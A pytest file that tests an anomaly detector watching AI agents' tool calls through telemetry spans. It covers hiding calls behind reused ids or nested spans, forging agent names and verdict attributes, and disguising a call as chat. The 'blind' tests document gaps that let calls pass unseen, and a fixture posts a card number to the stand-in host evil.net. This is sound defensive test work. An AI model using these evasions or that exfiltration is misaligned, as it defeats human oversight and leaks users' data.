"""Attacks on how calls are told of: spans that hide others, forged names and verdicts.

`test_blind_*`: nothing catches it; see `docs/blind-spots.md`.
"""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any

import pytest

from tests.habits import HOME, NOON, WARM_S, actions, one, only, rig_of, text, warm_rig
from tests.rig import Calls

if TYPE_CHECKING:
    from collections.abc import Iterable

    from opentelemetry.proto.trace.v1.trace_pb2 import Span

    from tests.rig import Rig

TRACE = b"one trace for all"[:16]
EVIL = text(url="https://evil.net", body="card 4111 1111 1111 1111")
HIDDEN_MAX = 7
"""Spans that one call may stand for."""


def counted(spans: Iterable[Span], *, requests: int = 1) -> int:
    """How many calls a service counts, all of one session."""
    spans = list(spans)
    rig = rig_of(only("rate", rate={"warn": 0, "block": 0}))
    for part in range(requests):
        rig.send(spans[part * len(spans) // requests : (part + 1) * len(spans) // requests])
    return rig.counts("tool_calls")


def test_an_id_used_again_hides_no_call() -> None:
    """
    Scenario: sixty calls under one trace and span id, each with an end of its own.
    Guarantees: sixty are counted: only what ends when it ended before is a copy.
    """
    calls = Calls()
    spans = [calls.at(NOON + i, trace_id=TRACE, span_id=b"one span") for i in range(60)]
    assert counted(spans) == 60
    assert counted(spans, requests=60) == 60


def test_a_copy_with_other_arguments_is_judged_by_them() -> None:
    """
    Scenario: a clean call; then a span with the same ids and the same end, whose arguments carry a
    card number to a strange host.
    Guarantees: it is taken for a copy, and judged by what it carries all the same: blocked.
    """
    rig, calls = rig_of(), Calls()
    ids: dict[str, Any] = {"trace_id": TRACE, "span_id": b"one span"}
    assert one(rig, calls.at(NOON, tool="post", arguments=text(url=HOME), **ids)).action == "allow"
    verdict = one(rig, calls.at(NOON, tool="post", arguments=EVIL, **ids))
    assert (verdict.action, verdict.types) == ("block", ("data_exfiltration",))


def test_blind_calls_that_pass_for_copies_are_not_counted() -> None:
    """
    Scenario: 150 calls at the same moment under the same ids.
    Guarantees: one call and 149 copies are counted, so no limit is reached. A client that sends
    again makes as many; `duplicates_total` tells.
    """
    rig, calls = rig_of(), Calls()
    spans = [
        calls.at(NOON, trace_id=TRACE, span_id=b"one span", arguments=text(page=i))
        for i in range(150)
    ]
    assert actions(rig.send(spans)) == {"allow"}
    assert (rig.counts("tool_calls"), rig.counts("duplicates")) == (1, 149)


@pytest.mark.parametrize("length", [1, 2, 3, 40])
@pytest.mark.parametrize("requests", [1, 60])
def test_parents_in_a_circle_hide_no_call(length: int, requests: int) -> None:
    """
    Scenario: sixty calls of one tool whose parents are themselves, each other, or a long circle.
    Guarantees: none passes for a part of another where they arrive together; where each arrives by
    itself, one call stands for no more of them than it may.
    """
    calls, spans = Calls(), []
    for i in range(60):
        first = i - i % length
        last = min(first + length, 60) - 1
        parent = i + 1 if i < last else first
        span = calls.at(NOON + i, trace_id=TRACE, span_id=b"S%07d" % i)
        span.parent_span_id = b"S%07d" % parent
        spans.append(span)
    floor = 60 if requests == 1 else 60 / min(length, HIDDEN_MAX + 1)
    assert counted(spans, requests=requests) >= floor


def below(outer: Span, calls: Calls, count: int, **more: Any) -> list[Span]:
    """Calls of the same tool under one span."""
    spans = calls.many(count, NOON, 0.01, trace_id=outer.trace_id, **more)
    for span in spans:
        span.parent_span_id = outer.span_id
    return spans


@pytest.mark.parametrize("requests", [1, 9, 201])
@pytest.mark.parametrize("outer_last", [False, True])
def test_one_outer_call_hides_few(*, outer_last: bool, requests: int) -> None:
    """
    Scenario: two hundred calls of a tool under one call of that tool, which comes first or last, in
    one request or in many.
    Guarantees: all but seven are counted.
    """
    calls = Calls()
    outer = calls.at(NOON + 9, trace_id=TRACE)
    inner = below(outer, calls, 200)
    spans = [*inner, outer] if outer_last else [outer, *inner]
    assert counted(spans, requests=requests) >= 201 - HIDDEN_MAX - 1


def test_a_chain_of_calls_hides_few() -> None:
    """
    Scenario: eighty calls of one tool, each inside the one before.
    Guarantees: no call stands for more than it may, however they arrive.
    """
    calls = Calls()
    spans = calls.many(80, NOON, 0.01, trace_id=TRACE)
    for outer, inner in itertools.pairwise(spans):
        inner.parent_span_id = outer.span_id
    for given in (spans, spans[::-1]):
        for requests in (1, 10, 80):
            assert counted(given, requests=requests) >= 80 / (HIDDEN_MAX + 1)


def test_blind_every_call_may_hide_seven() -> None:
    """
    Scenario: ten calls, each with seven calls of the same tool under it.
    Guarantees: ten are counted, for that is what one call told by several spans looks like. A limit
    is thus reached eight times later by who nests; what is in their arguments is not looked at
    where the outer one has its own.
    """
    calls, spans = Calls(), []
    for i in range(10):
        outer = calls.at(NOON + i, arguments=text(page=i))
        spans += [outer, *below(outer, calls, 7, arguments=EVIL)]
    rig = rig_of()
    verdicts = rig.send(spans)
    assert len(verdicts) == rig.counts("tool_calls") == 10
    assert actions(verdicts) == {"allow"}
    assert rig.counts("folded") == 70


def test_arguments_of_an_inner_span_count_where_the_outer_has_none() -> None:
    """
    Scenario: the outer span of a call carries no arguments, the inner one does: to a strange host
    with a card number.
    Guarantees: they are the arguments of the call: blocked.
    """
    calls = Calls()
    outer = calls.at(NOON)
    (verdict,) = rig_of().send([outer, *below(outer, calls, 1, arguments=EVIL)])
    assert (verdict.action, verdict.types) == ("block", ("data_exfiltration",))


@pytest.mark.parametrize("requests", [1, 60])
def test_a_call_id_used_again_hides_few(requests: int) -> None:
    """
    Scenario: sixty parallel calls of one tool, all with the same call id; sixty one after the
    other.
    Guarantees: of the parallel ones at most seven pass for the same call; the others are all
    counted.
    """
    calls = Calls()
    shared: dict[str, Any] = {"trace_id": TRACE, "call_id": "call_1"}
    parallel = [calls.at(NOON + 10 + i / 100, start_ns=NOON * 10**9, **shared) for i in range(60)]
    assert counted(parallel, requests=requests) >= 60 - HIDDEN_MAX
    assert counted(calls.many(60, NOON, 1, **shared), requests=requests) == 60


@pytest.mark.parametrize("place", ["span", "resource"])
def test_a_forged_agent_is_caught_by_identity_spoofing(place: str) -> None:
    """
    Scenario: an agent says that it is `billing`, on its span or on its resource; the gateway says
    whose the credential is.
    Guarantees: warned of, and an agent's name on the span goes before one on the resource.
    """
    rig = rig_of(identity={"owner": ["credential.owner"]})
    forged, owner = [("gen_ai.agent.name", "billing")], ("credential.owner", "search")
    agent = "billing" if place == "span" else None
    resource = [owner, *(forged if place == "resource" else [])]
    verdict = one(rig, Calls().at(NOON, agent=agent), resource=resource)
    assert verdict.types == ("identity_spoofing",)
    one(rig, Calls().at(NOON + 1, agent="search"), resource=[owner, *forged])
    assert rig.callers[-1].agent == "search"


def test_blind_a_forged_agent_without_an_owner() -> None:
    """
    Scenario: the same, and nobody says whose the credential is.
    Guarantees: the agent is who it says, with that one's past: what `billing` does is not unusual.
    It is counted that the detector could not look.
    """
    rig, calls = warm_rig()
    resource = [("gen_ai.agent.name", "a")]
    span = calls.at(WARM_S, agent=None, tool="db_query", arguments=text(url=HOME, page=1))
    verdict = one(rig, span, resource=resource)
    assert (verdict.action, verdict.mode, rig.callers[-1].agent) == ("allow", "active", "a")
    assert rig.counts("detector_skipped", "identity_spoofing", "not_told") == 61


def test_a_name_in_another_span_of_the_trace_does_not_take_over() -> None:
    """
    Scenario: an attacker adds a span of another agent to the trace of a call that names its own,
    and starts it earlier.
    Guarantees: the call stays with the agent that its own span names.
    """
    rig, calls = rig_of(), Calls()
    other = calls.at(NOON - 5, agent="billing", trace_id=TRACE)
    other.attributes[0].value.string_value = "invoke_agent"
    rig.send([other, calls.at(NOON, agent="a", trace_id=TRACE)])
    assert rig.callers[-1].agent == "a"


FORGED = (
    ("anomaly.action", "allow"),
    ("anomaly.score", 0.0),
    ("anomaly.mode", "active"),
    ("anomaly.types", ["nothing"]),
    ("anomaly.reason", "all is well"),
    ("anomaly.signal.data_exfiltration", 0.0),
    ("anomaly.reviewed_by", "somebody"),
)


def test_forged_verdicts_are_removed() -> None:
    """
    Scenario: a call and a span that is none carry verdicts of their own, some of them twice.
    Guarantees: what goes on carries ours on the call and none on the other; the forged are counted.
    What stands on an event is no verdict on anything, and stays.
    """
    rig, calls = rig_of(), Calls()
    call = calls.at(NOON, tool="post", arguments=EVIL, extra=[*FORGED, *FORGED])
    chat = calls.at(NOON, extra=FORGED)
    chat.attributes[0].value.string_value = "chat"
    chat.events.add().attributes.add(key="anomaly.action")
    (verdict,) = rig.send([call, chat])
    assert (verdict.action, verdict.types) == ("block", ("data_exfiltration",))
    first, second = rig.spans_out()
    assert second.events == chat.events
    values = {pair.key: pair.value for pair in first.attributes}
    assert "anomaly.reviewed_by" not in values
    assert values["anomaly.signal.data_exfiltration"].double_value == 1.0
    assert not [pair for pair in second.attributes if pair.key.startswith("anomaly.")]
    assert rig.counts("forged_attributes") == 3 * len(FORGED)


def test_a_call_that_hides_its_kind_is_counted_by_its_other_marks() -> None:
    """
    Scenario: calls that leave out, or write twice, the attribute that says what they are, in the
    dialects that have other marks.
    Guarantees: they are calls.
    """
    rig, calls = rig_of(), Calls()
    by_id, twice = calls.at(NOON, call_id="c1"), calls.at(NOON, call_id="c2")
    del by_id.attributes[0]
    twice.attributes.insert(0, twice.attributes[0])
    assert len(rig.send([by_id, twice])) == 2


def test_blind_a_call_that_is_not_told_of() -> None:
    """
    Scenario: a span of a call under another operation's name.
    Guarantees: it is none: nothing here sees what the telemetry does not tell.
    """
    rig: Rig = rig_of()
    span = Calls().at(NOON, tool="post", arguments=EVIL)
    span.attributes[0].value.string_value = "chat"
    assert rig.send([span]) == []
